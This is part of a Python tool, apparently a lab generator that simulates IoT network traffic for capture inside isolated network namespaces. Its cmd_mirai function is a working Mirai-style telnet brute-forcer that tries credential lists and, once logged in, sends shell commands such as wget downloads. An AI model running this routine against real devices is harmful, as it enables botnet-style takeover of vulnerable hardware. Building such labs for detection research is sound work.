        out = bytearray()
        i = 0
        while i < len(data):
            b = data[i]
            if b == IAC and i + 1 < len(data):
                cmd = data[i + 1]
                if cmd in (DO, DONT, WILL, WONT) and i + 2 < len(data):
                    opt = data[i + 2]
                    if cmd == DO:
                        self.sock.sendall(bytes([IAC, WONT, opt]))
                    elif cmd == WILL:
                        self.sock.sendall(bytes([IAC, DONT, opt]))
                    i += 3
                    continue
                if cmd == SB:
                    end = data.find(bytes([IAC, SE]), i)
                    i = len(data) if end < 0 else end + 2
                    continue
                i += 2
                continue
            out.append(b)
            i += 1
        self.buf += bytes(out)
        return True

    def expect(self, needles, deadline):
        while time.time() < deadline:
            low = self.buf.lower()
            for n in needles:
                if n in low:
                    return n
            if not self._recv(min(0.5, max(0.05, deadline - time.time()))):
                return None
        return None

    def send(self, line):
        self.sock.sendall(line.encode() + b"\r\n")

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def cmd_mirai(args):
    with open(args.spec) as f:
        spec = json.load(f)
    end = time.time() + args.timeout
    result = dict(attempts=0, successes=0, commands=0)
    for user, pw in spec["creds"]:
        if time.time() > end - 1:
            break
        try:
            s = MiraiSession(args.target, timeout=3)
        except OSError:
            continue
        result["attempts"] += 1
        try:
            if s.expect([b"login:"], min(end, time.time() + 6)) is None:
                continue
            s.send(user)
            if s.expect([b"password:"], min(end, time.time() + 4)) is None:
                continue
            s.buf = b""
            s.send(pw)
            got = s.expect([b"incorrect", b"$ ", b"# "], min(end, time.time() + 6))
            if got in (b"$ ", b"# "):
                result["successes"] += 1
                for c in spec["commands"]:
                    if time.time() > end - 0.5:
                        break
                    s.send(c)
                    result["commands"] += 1
                    s.expect([b"mirai: applet not found", b"\x00never"],
                             min(end, time.time() + (2.5 if "wget" in c else 0.8)))
                s.expect([b"\x00never"], min(end, time.time() + 0.5))
                break
        finally:
            s.close()
    with open(args.result, "w") as f:
        json.dump(result, f)


# --------------------------------------------------------------------------
# Stale cleanup
# --------------------------------------------------------------------------

def pid_alive(pid):
    try:
        os.kill(pid, 0)
        return True
    except ProcessLookupError:
        return False
    except PermissionError:
        return True


def cleanup_stale():
    """Remove leftovers of dead runs of this lab (our prefix only)."""
    removed = []
    runs = {}
    if os.path.isdir(STATE_DIR):
        for f in os.listdir(STATE_DIR):
            if f.startswith(PREFIX + "-") and f.endswith(".json"):
                try:
                    with open(os.path.join(STATE_DIR, f)) as fh:
                        st = json.load(fh)
                except (OSError, ValueError):
                    continue
                runs[st["prefix"]] = (os.path.join(STATE_DIR, f), st)
    nslist = sh(["ip", "netns", "list"], check=False).stdout.decode().split("\n")
    for line in nslist:
        name = line.split(" ")[0].strip()
        if not name.startswith(PREFIX + "-"):
            continue
        parts = name.split("-")
        if len(parts) < 3 or "x" not in parts[1]:
            continue
        prefix = "-".join(parts[:2])
        runs.setdefault(prefix, (None, dict(prefix=prefix, namespaces=[], tmp=None)))
        if name not in runs[prefix][1]["namespaces"]:
            runs[prefix][1]["namespaces"].append(name)
    for prefix, (path, st) in runs.items():
        try:
            owner = int(prefix.split("-")[1].split("x")[0])
        except ValueError:
            continue
        if owner != os.getpid() and pid_alive(owner):
            log("run %s still alive (pid %d); left alone" % (prefix, owner))
            continue
        live = set(sh(["ip", "netns", "list"], check=False).stdout.decode().split())
        nss = [n for n in st.get("namespaces", []) if n in live]
        for _ in range(10):
            pids = []
            for ns in nss:
                pids += [int(x) for x in sh(["ip", "netns", "pids", ns], check=False).stdout.split()]
            if not pids:
                break
            for pid in pids:
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
            time.sleep(0.2)
        for ns in nss:
            sh(["ip", "netns", "del", ns], check=False)
        tmp = st.get("tmp")
        if tmp and os.path.basename(tmp).startswith(prefix + "-") and os.path.isdir(tmp):
            shutil.rmtree(tmp, ignore_errors=True)
        if path:
            os.unlink(path)
        removed.append(prefix)
    log("stale runs removed: %s" % (", ".join(removed) or "none"))


# --------------------------------------------------------------------------
# CLI
# --------------------------------------------------------------------------

def main(argv=None):
    ap = argparse.ArgumentParser(description="spanwatch IoT lab generator (run as root)")
    sub = ap.add_subparsers(dest="internal")
    pi = sub.add_parser("_isolate", help=argparse.SUPPRESS)
    pi.add_argument("--hostname", required=True)
    pi.add_argument("--inetd", help="IP:PORT to accept on, one server per connection")
    pi.add_argument("--etc-upper", required=True)
    pi.add_argument("--etc-work", required=True)
    pi.add_argument("server", nargs=argparse.REMAINDER)
    pm = sub.add_parser("_mirai", help=argparse.SUPPRESS)
    pm.add_argument("--target", required=True)
    pm.add_argument("--spec", required=True)
    pm.add_argument("--result", required=True)
    pm.add_argument("--timeout", type=float, required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--duration", type=float, default=300.0, help="capture length in seconds")
    ap.add_argument("--phases", default="all", help="all | none | comma-separated phase names")
    ap.add_argument("--out", help="output directory")
    ap.add_argument("--keep-going", action="store_true", help="continue when a phase fails")
    ap.add_argument("--keep-logs", action="store_true", help="copy daemon logs to OUT/logs")
    ap.add_argument("--plan-only", action="store_true", help="print the seeded schedule as JSON and exit")
    ap.add_argument("--cleanup-stale", action="store_true", help="remove leftovers of dead lab runs and exit")
    ap.add_argument("--no-install", action="store_true", help="do not apt-get install missing tools")
    ap.add_argument("--install-only", action="store_true", help="install what the lab needs and exit")
    args = ap.parse_args(argv)
    if args.internal == "_isolate":
        return cmd_isolate(args)
    if args.internal == "_mirai":
        return cmd_mirai(args)
    try:
        plan = make_plan(args.seed, args.duration, parse_phases(args.phases))
    except LabError as e:
        log(str(e))
        return 2
    if args.plan_only:
        json.dump(plan, sys.stdout, indent=1, sort_keys=True)
        sys.stdout.write("\n")
        return 0
    if os.geteuid() != 0:
        log("must run as root")
        return 2
    if args.cleanup_stale:
        cleanup_stale()
        return 0
    if not args.out and not args.install_only:
        log("--out is required")
        return 2
    lab = Lab(plan, args.out or ".", args.keep_going, args.keep_logs)
    try:
        if not args.no_install:
            ensure_packages()
        if lab.by_kind.get("cam"):
            lab.busybox_telnetd = busybox_with_telnetd()
    except (LabError, OSError, subprocess.SubprocessError) as e:
        log("setup failed: %s" % e)
        return 1
    if args.install_only:
        return 0

    def on_signal(signum, _frame):
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        raise LabInterrupted("signal %d" % signum)
    signal.signal(signal.SIGINT, on_signal)
    signal.signal(signal.SIGTERM, on_signal)
    rc = 0
    try:
        lab.run()
        lab.stop_reason = "done"
    except LabInterrupted as e:
        lab.stop_reason = "interrupted"
        log("interrupted (%s): tearing down" % e)
        rc = 143
    except LabError as e:
        lab.stop_reason = "error"
        log("error: %s" % e)
        rc = 1
    except BaseException as e:
        lab.stop_reason = "error"
        log("unexpected %r: tearing down" % e)
        rc = 1
        raise
    finally:
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        lab.teardown()
        log("teardown done")
    return rc


if __name__ == "__main__":
    sys.exit(main())
